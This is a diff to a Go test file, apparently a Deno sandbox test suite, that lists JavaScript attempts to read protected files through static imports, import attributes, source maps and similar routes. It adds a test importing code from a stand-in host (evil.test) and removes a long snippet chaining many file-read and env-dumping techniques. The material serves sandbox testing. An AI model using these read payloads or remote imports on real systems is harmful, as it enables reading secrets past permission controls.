@@ -3,13 +3,17 @@ package attack
 import (
 	"fmt"
 	"regexp"
+	"slices"
 	"strings"
 )
 
 // imports are attempts to read files by what is no reading: Deno asks for no permission where a module is named in the
-// code itself. Each is a program of its own, as one that is refused keeps the program from starting.
+// code itself. Each is a program of its own, as one that is refused keeps the program from starting; deno check refuses it
+// too, so these are no files.
 func imports() []Attack {
-	var all []Attack
+	all := []Attack{Attack{
+		Section: "C", Name: "a static import from afar", Expected: "no way out", Judge: unasked, Code: `import "https://evil.test/static-TRIAL.js"; out({ status: 200 });`,
+	}.expectFailure()}
 	for _, f := range []struct{ name, code string }{
 		{"as text", `import t from "PATH" with { type: "text" }; out({ status: 200, text: t });`},
 		{"as bytes", `import t from "PATH" with { type: "bytes" }; out({ status: 200, text: new TextDecoder().decode(t) });`},
@@ -18,22 +22,6 @@ func imports() []Attack {
 		{"by export from", `export * from "PATH"; out({ status: 200 });`},
 		{"as WebAssembly", `import source m from "PATH"; out({ status: 200, text: String(m) });`},
 		{"deferred", `import defer * as m from "PATH"; out({ status: 200, text: JSON.stringify(m) });`},
-		{"in any other way", `const path = "PATH", url = "file://" + path;
-import fs from "node:fs"; import { createRequire } from "node:module"; import process from "node:process";
-const nap = (p) => Promise.race([p, new Promise((_, no) => setTimeout(() => no(new Error("silence")), 1500))]);
-for (const f of [
-  () => import(url, { with: { type: "text" } }), () => import(url, { with: { type: "json" } }), () => import(url), () => import(path), () => import(import.meta.resolve(path)),
-  () => import("data:application/javascript," + encodeURIComponent("import t from '" + url + "' with { type: 'text' }; export default t;")),
-  () => import("data:application/javascript," + encodeURIComponent("export * from '" + url + "';")),
-  () => import(URL.createObjectURL(new Blob(["import t from '" + url + "' with { type: 'text' }; export default t;"], { type: "text/javascript" }))),
-  () => nap(new Promise((ok, no) => { const w = new Worker(url, { type: "module" }); w.onmessage = (m) => ok(m.data); w.onerror = (e) => { e.preventDefault(); no(new Error(e.message)); }; })),
-  () => nap(new Promise((ok, no) => { const w = new Worker("data:application/javascript," + encodeURIComponent("import t from '" + url + "' with { type: 'text' }; postMessage(t);"), { type: "module" }); w.onmessage = (m) => ok(m.data); w.onerror = (e) => { e.preventDefault(); no(new Error(e.message)); }; })),
-  () => fetch(url).then((r) => r.text()), () => fetch(new URL(path, import.meta.url)).then((r) => r.text()), () => new Response(Deno.openSync(path).readable).text(),
-  () => createRequire("/tmp/x.js")(path), () => createRequire(import.meta.url)("../.." + path), () => fs.readFileSync(path, "utf8"), () => fs.readFileSync(new URL(url), "utf8"), () => fs.promises.readFile(path, "utf8"),
-  () => new Promise((ok, no) => fs.createReadStream(path).on("data", (b) => ok(String(b))).on("error", no)), () => fs.openAsBlob(path).then((b) => b.text()), () => { fs.cpSync(path, "/tmp/TRIAL"); return fs.readFileSync("/tmp/TRIAL", "utf8"); }, () => { fs.linkSync(path, "/tmp/TRIAL"); return fs.readFileSync("/tmp/TRIAL", "utf8"); },
-  () => { process.loadEnvFile(path); return JSON.stringify(process.env); }, () => WebAssembly.compileStreaming(fetch(url)), () => import("node:sqlite").then((s) => { const d = new s.DatabaseSync(path, { readOnly: true }); return JSON.stringify(d.prepare("select * from sqlite_master").all()); }),
-  () => import("node:worker_threads").then((t) => nap(new Promise((ok, no) => new t.Worker(path).on("message", ok).on("error", no)))), () => import("node:module").then((m) => m.findSourceMap(path) ?? m.default._load(path)), () => { throw eval("new Error('x')\n//# sourceMappingURL=" + url); },
-]) { try { const r = await f(); out({ status: 200, text: typeof r === "string" ? r : JSON.stringify(r?.default ?? r) }); } catch (e) { why(e); } }`},
 		{"by a source map", `//# sourceMappingURL=file://PATH
 const path = "PATH"; try { throw new Error(path); } catch (e) { out({ status: 200, text: e.stack }); } throw new Error("uncaught");
 //# sourceMappingURL=PATH`},
@@ -70,4 +58,35 @@ func unread(e *Evidence) (string, bool) {
 	}
 	first, _, _ := strings.Cut(strings.TrimSpace(text), "\n")
 	return clip(first, 90), e.Failed == nil && text != ""
+}
+
+// expectFailure marks an attack whose code cannot even start.
+func (a Attack) expectFailure() Attack {
+	inner := a.Judge
+	a.Judge = func(e *Evidence) (string, bool) {
+		if e.Result.IsError && !strings.Contains(e.Result.Out, `"status":200`) {
+			return "the module did not load", e.Failed == nil
+		}
+		return inner(e)
+	}
+	return a
+}
+
+// unasked: no name of the trial was ever asked for outside, nothing of it arrived, and the code printed failures.
+func unasked(e *Evidence) (string, bool) {
+	asked := slices.ContainsFunc(e.World.Upstream.Asked(), func(n string) bool { return strings.Contains(n, strings.ToLower(e.Trial)) })
+	if asked {
+		return "the name was asked for outside", false
+	}
+	for _, s := range e.Arrived {
+		if !strings.Contains(s.Target, "dns-query") {
+			return "a request arrived at " + s.Host, false
+		}
+	}
+	for _, l := range e.lines() {
+		if l.Error == "" && l.Status == 200 {
+			return e.brief(), false
+		}
+	}
+	return e.brief(), len(e.lines()) > 0
 }
